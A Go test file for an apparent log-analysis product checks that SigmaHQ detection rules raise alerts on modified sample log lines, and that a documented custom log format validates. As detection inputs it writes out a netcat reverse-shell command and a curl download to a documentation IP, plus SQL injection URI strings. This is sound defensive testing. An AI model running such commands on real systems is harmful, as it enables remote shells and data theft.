package logpipeline_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/ironpost/ironpost/internal/testenv"
	"github.com/ironpost/ironpost/services/logpipeline"
	"github.com/ironpost/ironpost/services/logpipeline/format"
)

// SigmaHQ's rules for a product match what the shipped format of the product reads: the sample of the format, or a line like it.
func TestSigmaHQRulesMatchShippedFormats(t *testing.T) {
	t.Parallel()
	samples := map[string]string{}
	formats, err := format.Shipped()
	require.NoError(t, err)
	for _, f := range formats {
		samples[f.Name] = f.Samples[0].Line
	}
	for name, c := range map[string]struct{ rules, format, old, replacement, want string }{
		"commands":    {"rules/network/cisco", "cisco_aaa", "", "", "Cisco Local Accounts"},
		"exec":        {"rules/application/kubernetes", "kubernetes_audit", "", "", "Potential Remote Command Execution In Pod Container"},
		"encryption":  {"rules/cloud/aws", "aws_cloudtrail", "", "", "AWS EC2 Disable EBS Encryption"},
		"injection":   {"rules/web/webserver_generic", "iis", "id=1%27%20OR%201=1--", "id=1%20UNION%20SELECT%20password", "SQL Injection Strings In URI"},
		"reverse":     {"rules/linux/process_creation", "tetragon_exec", `"/usr/bin/curl","arguments":"-o /tmp/x http://203.0.113.9/x"`, `"/usr/bin/nc","arguments":"-e /bin/sh 203.0.113.9 4444"`, "Potential Netcat Reverse Shell Execution"},
		"mining pool": {"rules/linux/network_connection", "tetragon_connect", `"binary":"/usr/bin/curl"`, `"binary":"/usr/bin/bash"`, "Linux Reverse Shell Indicator"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			cfg := logpipeline.DefaultConfig()
			cfg.ShippedRules, cfg.RulesPath = false, testenv.Data(t, "sigma/"+c.rules)
			line := samples[c.format]
			require.Contains(t, line, c.old)
			require.Contains(t, titlesOf(t, cfg, strings.Replace(line, c.old, c.replacement, 1)), c.want)
		})
	}
}

// titlesOf returns the titles of the alerts of a line.
func titlesOf(t *testing.T, cfg logpipeline.Config, line string) (titles []string) {
	t.Helper()
	o, problems, err := logpipeline.NewOffline(cfg, "web1")
	require.NoError(t, err)
	require.NoError(t, problems)
	for _, a := range o.Line("1", []byte(line), time.Now()) {
		titles = append(titles, a.Title)
	}
	return titles
}

// ownFormat is the format that the section "Your own format" of docs/logs.md shows, and the rule for it.
func ownFormat(t *testing.T) (formatText, rule string) {
	t.Helper()
	page, err := os.ReadFile("../../docs/logs.md")
	require.NoError(t, err)
	_, section, found := strings.Cut(string(page), "\n## Your own format\n")
	require.True(t, found)
	block := func(language string) string {
		_, rest, found := strings.Cut(section, "```"+language+"\n")
		require.True(t, found, language)
		text, _, _ := strings.Cut(rest, "```")
		return text
	}
	return block("toml"), block("yaml")
}

func TestYourOwnFormatOfTheDocumentation(t *testing.T) {
	t.Parallel()
	text, rule := ownFormat(t)
	dir := t.TempDir()
	cfg := logpipeline.DefaultConfig()
	cfg.FormatsPath, cfg.RulesPath = filepath.Join(dir, "formats"), filepath.Join(dir, "rule.yml")
	require.NoError(t, os.Mkdir(cfg.FormatsPath, 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(cfg.FormatsPath, "turnstile.toml"), []byte(text), 0o600))
	require.NoError(t, os.WriteFile(cfg.RulesPath, []byte(rule), 0o600))
	require.Empty(t, logpipeline.CheckFiles(cfg))
	require.Contains(t, titlesOf(t, cfg, "2026-11-03 15:04:05 turnstile gate=3 badge refused: user=ann from=203.0.113.9"), "Badge refused")
	require.Empty(t, titlesOf(t, cfg, "app: 2026-11-03 15:04:05 turnstile gate=3 badge refused: user=ann from=203.0.113.9"))

	// A sample that is read otherwise than it says is named with its place, and the format is not used.
	wrong := strings.Replace(text, `user = "ann"`, `user = "bob"`, 1)
	require.NotEqual(t, text, wrong)
	require.NoError(t, os.WriteFile(filepath.Join(cfg.FormatsPath, "turnstile.toml"), []byte(wrong), 0o600))
	problems := logpipeline.CheckFiles(cfg)
	require.Len(t, problems, 1)
	require.Regexp(t, `/turnstile\.toml:\d+:\d+: sample: field user is "ann", not "bob"$`, problems[0].Error())
	_, err := logpipeline.NewExplainer(cfg, "", logpipeline.Input{})
	require.ErrorContains(t, err, `field user is "ann", not "bob"`)
}
